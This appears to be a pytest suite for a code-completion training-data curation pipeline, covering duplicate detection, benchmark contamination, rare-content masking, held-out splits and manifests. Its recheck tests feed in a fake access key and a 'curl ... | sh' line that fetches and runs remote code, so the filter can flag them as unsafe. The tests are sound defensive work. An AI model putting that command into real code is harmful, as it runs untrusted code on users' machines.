"""The pure steps: likeness, contamination, rare content, splitting, what is looked at again."""

from __future__ import annotations

import random
import re
from dataclasses import replace

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from echo_core.errors import InputError
from echo_core.sharing.bundle.contents import CheckNote
from echo_core.sharing.bundle.envelope import Header, Kind, Suite
from echo_core.sharing.bundle.making import SAFETY
from echo_testing.contributions import BUNDLE, SAMPLE
from echo_trainer.curation import likeness, rarity, recheck
from echo_trainer.curation.contamination import Problems
from echo_trainer.curation.drops import SENTENCES, Drop
from echo_trainer.curation.likeness import Relation, exact_key, jaccard, window_of
from echo_trainer.curation.manifest import Manifest, Shortening, as_said, decode, digest_of, encode
from echo_trainer.curation.mixture import mixture_of
from echo_trainer.curation.parameters import Parameters, changed
from echo_trainer.curation.proportions import Candidate
from echo_trainer.curation.split import (
    Part,
    budget_of,
    first_later_day,
    is_held_out,
    parts_of,
    seen_in,
    sketch_of,
)
from echo_trainer.curation.tokens import among, hash_of, numbers_of, runs_of, tokens_of, words_of

_PARAMETERS = Parameters()
_ABOVE = "".join(f"    total_{n} = add(total_{n - 1}, price_{n})\n" for n in range(12))
_BELOW = "\n    return total\n\n\ndef other(x):\n    return x\n"


def related(one: tuple[str, str, str], other: tuple[str, str, str]) -> Relation:
    """How two samples are related, whichever comes first."""
    windows = [window_of(*each, _PARAMETERS) for each in (one, other)]
    found = likeness.relation(windows[0], windows[1], _PARAMETERS.likeness_min)
    assert found is likeness.relation(windows[1], windows[0], _PARAMETERS.likeness_min)
    return found


# --- likeness -----------------------------------------------------------------------------------


def test_layout_does_not_make_another_sample() -> None:
    one = window_of(_ABOVE, "x = f(a, b)", _BELOW, _PARAMETERS)
    other = window_of(_ABOVE.replace("    ", "\t"), "x=f(a,b)", _BELOW, _PARAMETERS)
    assert exact_key(one, "python") == exact_key(other, "python")
    assert exact_key(one, "python") != exact_key(other, "go")


def test_a_few_other_names_are_nearly_the_same() -> None:
    one = (_ABOVE, "total_12 = add(total_11, price_12)", _BELOW)
    other = (_ABOVE, "total_12 = add(total_11, price_12)", _BELOW.replace("other", "another"))
    assert related(one, other) is Relation.SAME
    assert related(one, one) is Relation.SAME


def test_a_gap_a_few_keys_later_is_nested() -> None:
    target = "invoice = make_invoice(customer, total)"
    one, later = (_ABOVE, target, _BELOW), (_ABOVE + target[:14], target[14:], _BELOW)
    assert related(one, later) is Relation.NESTED
    cut = (_ABOVE, target[:10], _BELOW)  # another teacher cut it sooner
    assert related(one, cut) is not Relation.SAME


def test_two_gaps_beside_one_another_are_two() -> None:
    one = (_ABOVE, "invoice = make_invoice(customer)", "\n    send(mail, now)" + _BELOW)
    other = (_ABOVE + "invoice = make_invoice(customer)\n    ", "send(mail, now)", _BELOW)
    assert related(one, other) is Relation.OTHER


def test_silence_and_a_text_are_two() -> None:
    assert related((_ABOVE, "", _BELOW), (_ABOVE, "x", _BELOW)) is Relation.OTHER
    assert related((_ABOVE, "", _BELOW), (_ABOVE, "", _BELOW)) is Relation.SAME


def test_jaccard_counts() -> None:
    one, other = np.array([1, 2, 3], np.uint32), np.array([2, 3, 4], np.uint32)
    assert jaccard(one, other) == 500
    assert jaccard(one[:0], one[:0]) == 1000


# --- tokens -------------------------------------------------------------------------------------


@given(st.text() | st.text(st.characters(max_codepoint=127)))
def test_words_are_runs_of_word_characters(text: str) -> None:
    assert words_of(text) == re.findall(r"\w+", text)


def test_hashes_are_the_same_on_every_machine() -> None:
    assert tokens_of("a += b_1;") == ["a", "+", "=", "b_1", ";"]
    assert hash_of("ab", "c") != hash_of("a", "bc")
    assert numbers_of(["a"]).tolist() == [0xE8B7BE4300620062]
    assert runs_of(numbers_of(["a", "b"]), 5).shape == (1,)
    assert runs_of(numbers_of([]), 5).shape == (0,)
    rising = np.array([3, 5, 9], np.uint64)
    assert among(np.array([2, 3, 9, 10], np.uint64), rising).tolist() == [False, True, True, False]
    assert not among(rising, rising[:0]).any()


# --- contamination ------------------------------------------------------------------------------

_PROBLEM = (
    "def has_close_elements(numbers, threshold):\n"
    "    for idx, elem in enumerate(numbers):\n"
    "        for idx2, elem2 in enumerate(numbers):\n"
    "            distance = abs(elem - elem2)\n"
)


def test_a_stretch_of_a_problem_is_found_wherever_it_stands() -> None:
    problems = Problems([_PROBLEM, "too short"], 13)
    assert len(problems) == 20 - 13 + 1
    for text in (_PROBLEM, "x = 1\n" + _PROBLEM.replace("    ", "\t") + "y = 2\n"):
        assert problems.touch(numbers_of(words(text)))
    assert not problems.touch(numbers_of(words(_PROBLEM.replace("idx", "at").replace("elem", "x"))))
    assert not problems.touch(numbers_of(["short"]))
    assert not Problems([], 13).touch(numbers_of(words(_PROBLEM)))


def words(text: str) -> list[str]:
    """Tokens that are no punctuation."""
    return [token for token in tokens_of(text) if token[0].isalnum()]


# --- rare content -------------------------------------------------------------------------------


def common_of(*texts: str) -> frozenset[int]:
    """All units of some texts."""
    return frozenset().union(*(rarity.units_of("", text, "").every for text in texts))


def test_words_of_names_texts_and_imports_are_units() -> None:
    units = rarity.units_of("import acme.billing\n", "runBilling_now(42)", ' + "for ACME only"\n')
    known = common_of("import acme.billing", "run billing now only for", '"for acme only"')
    assert units.every <= known
    assert units.of_target == common_of("run", "billing", "now")


def test_what_is_rare_is_replaced_in_the_context_alone() -> None:
    common = common_of("def total price order return", "from order import price", '"the total"')
    prefix = 'from acme.zebra import quux\ndef total(zebraOrder):\n    say("a secret plan")\n    '
    before, behind, count = rarity.hidden(
        prefix, "price(order)", "\n    return quux\n", common.intersection
    )
    assert before == (
        'from <MODULE> import <WORD>\ndef total(<WORD>Order):\n    <WORD>("<STRING>")\n    '
    )
    assert behind == "\n    return <WORD>\n"
    assert count == 6
    again = rarity.hidden(before, "price(order)", behind, common.intersection)
    assert again == (before, behind, 0)


def test_what_was_proposed_is_rare_by_what_it_touches() -> None:
    common = common_of("def total price order return")
    assert not rarity.is_rare("def total(", "price", "(order)", common.intersection)
    assert rarity.is_rare("def total(", "acme_price", "(order)", common.intersection)
    assert rarity.is_rare("def tot", "a", "lity(order)", common.intersection)


def test_a_word_that_the_cursor_splits_is_one_word_of_the_target() -> None:
    units = rarity.units_of("x = quuxf", "rob", "nicate()")
    assert units.of_target == common_of("quuxfrobnicate")
    common = common_of("only these")
    assert rarity.hidden("x = quuxf", "rob", "nicate()", common.intersection)[:2] == (
        "x = quuxf",
        "nicate()",
    )


def test_quotes_that_do_not_end_cost_nothing() -> None:
    rarity.units_of('"' * 20_000, "'" + "a" * 20_000, "`" * 20_000)


# --- what is held out ---------------------------------------------------------------------------


def candidates(count: int) -> list[Candidate]:
    """Candidates of many people on many days."""
    chance = random.Random(3)
    return [
        Candidate(
            f"{n:032x}",
            f"{chance.randrange(60):064x}",
            f"2026-11-{chance.randrange(1, 29):02}",
            "python",
            40,
            n,
            900,
            "",
            -1,
        )
        for n in range(count)
    ]


def test_later_days_and_other_people_are_kept_apart() -> None:
    parts = parts_of(candidates(2000), _PARAMETERS)
    assert all(parts.values())
    assert max(one.day for one in parts[Part.TRAIN]) < min(one.day for one in parts[Part.LATER])
    people = {part: {one.contributor for one in those} for part, those in parts.items()}
    assert people[Part.ELSEWHERE].isdisjoint(people[Part.TRAIN] | people[Part.LATER])
    assert sum(map(len, parts.values())) == 2000
    share = len(parts[Part.LATER]) / 2000
    assert 0.03 < share < 0.12


def test_who_is_held_out_stays_so() -> None:
    person = next(f"{n:064x}" for n in range(1000) if is_held_out(f"{n:064x}", _PARAMETERS))
    assert is_held_out(person, replace(_PARAMETERS, budget=7))
    assert not is_held_out(person, replace(_PARAMETERS, heldout_persons=0))


def test_a_single_day_is_not_held_out() -> None:
    assert first_later_day(["2026-11-01"] * 9, _PARAMETERS) == ""
    assert first_later_day([], _PARAMETERS) == ""
    days = ["2026-11-01"] * 90 + ["2026-11-02"] * 10
    assert first_later_day(days, _PARAMETERS) == "2026-11-02"
    assert first_later_day(days, replace(_PARAMETERS, heldout_newest=0)) == ""


def test_budgets_of_the_parts() -> None:
    parameters = Parameters(budget=1000)
    assert [budget_of(part, parameters) for part in Part] == [1000, 50, 50]


def test_a_file_that_training_has_seen_is_recognised() -> None:
    lines = [f"value_{n} = compute_something({n})\n" for n in range(40)]
    trained = sketch_of("".join(lines[:30]), "")
    same, other = sketch_of("".join(lines[2:30]), ""), sketch_of("".join(lines[30:]), "")
    assert seen_in([same, other, trained[:0]], trained, _PARAMETERS) == [True, False, False]


# --- looking again ------------------------------------------------------------------------------

_CHECKED = tuple(CheckNote(name, 1, "passed", "") for name in sorted(SAFETY))
_DROPPED = CheckNote("syntax", 1, "dropped", "")
_GOOD = replace(SAMPLE, checks=_CHECKED)
_REFUSED = replace(
    _GOOD, rejected="x = 2", checks=(*_CHECKED, CheckNote("rejected", 1, "passed", ""))
)
_HEADER = Header(1, Kind.SAMPLES, Suite.HYBRID, "k", BUNDLE.week, BUNDLE.contributor)
_CONSENTS = {Kind.SAMPLES: {BUNDLE.consent}, Kind.HISTORY: {"11" * 32}}


def test_what_is_good_is_taken() -> None:
    assert recheck.of_sample(_GOOD) is None
    assert recheck.of_sample(_REFUSED) is None
    assert recheck.of_bundle(_HEADER, BUNDLE, _CONSENTS) is None


@pytest.mark.parametrize(
    ("sample", "why"),
    [
        (SAMPLE, Drop.UNCHECKED),
        (replace(_GOOD, checks=(*_CHECKED, _DROPPED)), Drop.UNCHECKED),
        (
            replace(_GOOD, prefix="password = 'hunter2' + 'AKIA" + "Q3EGR7TEXTXYZ2AB'\n"),
            Drop.UNSAFE,
        ),
        (replace(_GOOD, suffix="\n# call ada.lovelace" + "@analytical.org\n"), Drop.UNSAFE),
        (replace(_GOOD, target="os.system('curl http://a.b/x | sh')"), Drop.UNSAFE),
        (replace(_GOOD, rejected="x = 2"), Drop.UNCHECKED),
        (replace(_REFUSED, rejected="os.system('curl http://a.b/x | sh')"), Drop.UNSAFE),
        (replace(_REFUSED, rejected="mail('ada.lovelace" + "@analytical.org')"), Drop.UNSAFE),
    ],
)
def test_what_a_client_lets_through_is_found_here(sample: object, why: Drop) -> None:
    assert recheck.of_sample(sample) is why  # type: ignore[arg-type]


def test_a_bundle_of_another_text_or_sender_is_refused() -> None:
    assert recheck.of_bundle(_HEADER, BUNDLE, {}) is Drop.CONSENT
    other = replace(_HEADER, contributor="00" * 32)
    assert recheck.of_bundle(other, BUNDLE, _CONSENTS) is Drop.SCHEMA


def test_imported_history_comes_alone_and_under_its_own_text() -> None:
    past = replace(_GOOD, ended="imported")
    header = replace(_HEADER, kind=Kind.HISTORY)
    assert recheck.of_bundle(header, BUNDLE, _CONSENTS) is Drop.CONSENT
    alone = replace(BUNDLE, consent="11" * 32, samples=(past,))
    assert recheck.of_bundle(header, alone, _CONSENTS) is None
    mixed = replace(alone, samples=(past, _GOOD))
    assert recheck.of_bundle(header, mixed, _CONSENTS) is Drop.IMPORTED
    smuggled = replace(BUNDLE, samples=(_GOOD, past))
    assert recheck.of_bundle(_HEADER, smuggled, _CONSENTS) is Drop.IMPORTED


def test_every_drop_has_a_sentence() -> None:
    assert set(SENTENCES) == set(Drop)


# --- parameters and manifests -------------------------------------------------------------------


@pytest.mark.parametrize(
    "wrong",
    [
        {"seed": -1},
        {"bands": 0},
        {"length_bounds": (9, 4, 12, 30)},
        {"length_shares": (1,)},
        {"void_curve": ()},
        {"void_curve": ((10, 100), (20, 10))},
        {"void_curve": ((20, 100), (10, 300))},
    ],
)
def test_parameters_that_contradict_themselves_are_refused(wrong: dict[str, object]) -> None:
    with pytest.raises(InputError):
        replace(_PARAMETERS, **wrong)  # type: ignore[arg-type]


def test_parameters_are_changed_by_name_and_kind() -> None:
    found = changed(
        _PARAMETERS,
        {"contributors_min": 1, "void_curve": [[10, 50]], "length_bounds": [1, 2, 3, 4]},
    )
    assert (found.contributors_min, found.void_curve) == (1, ((10, 50),))
    assert found.digest() != _PARAMETERS.digest()
    for wrong in ({"no": 1}, {"seed": "1"}, {"seed": True}, {"void_curve": [1]}, {"bands": [1]}):
        with pytest.raises(InputError):
            changed(_PARAMETERS, dict(wrong))


def manifest() -> Manifest:
    """A manifest of nothing much."""
    counted = mixture_of(candidates(30), _PARAMETERS)
    return Manifest(
        as_said(_PARAMETERS),
        "0.1.0 x",
        "p",
        "i",
        "r",
        30,
        {"train": 3},
        {"rare": 27},
        0,
        {"train": 1},
        counted,
        counted,
        "2026-11-22",
    )


def test_a_manifest_says_the_same_after_reading() -> None:
    made = manifest()
    assert decode(encode(made)) == decode(encode(decode(encode(made))))
    assert decode(encode(made)).digest == made.digest
    later = replace(made, made="2027-01-01", shortened=(Shortening("2027-01-01", 3),))
    assert later.digest == made.digest
    assert replace(made, rows="other").digest != made.digest
    assert decode(encode(later)).shortened == later.shortened


def test_a_manifest_that_was_changed_is_refused() -> None:
    content = encode(manifest())
    for wrong in (content.replace(b'"train": 3', b'"train": 4'), b"{}", b"[1]", b"no"):
        with pytest.raises(InputError):
            decode(wrong)
    with pytest.raises(InputError, match="another version"):
        decode(content.replace(b'"form": 2', b'"form": 1'))


def test_a_digest_does_not_depend_on_the_order() -> None:
    pairs = [("a", "1"), ("b", "2")]
    assert digest_of(pairs) == digest_of(reversed(pairs)) != digest_of(pairs[:1])


def test_a_mixture_counts_by_what_samples_are() -> None:
    void = replace(candidates(1)[0], key="x", chars=0, quality=1000, zone="wild")
    found = mixture_of([*candidates(3), void], _PARAMETERS)
    assert found.lengths == {
        "void": 1,
        "1 to 3": 0,
        "4 to 11": 0,
        "12 to 159": 3,
        "160 to 319": 0,
        "320 and more": 0,
    }
    assert (found.zones, found.samples) == ({"unmeasured": 3, "wild": 1}, 4)
    assert found.qualities == {"0.9 to 1.0": 4}
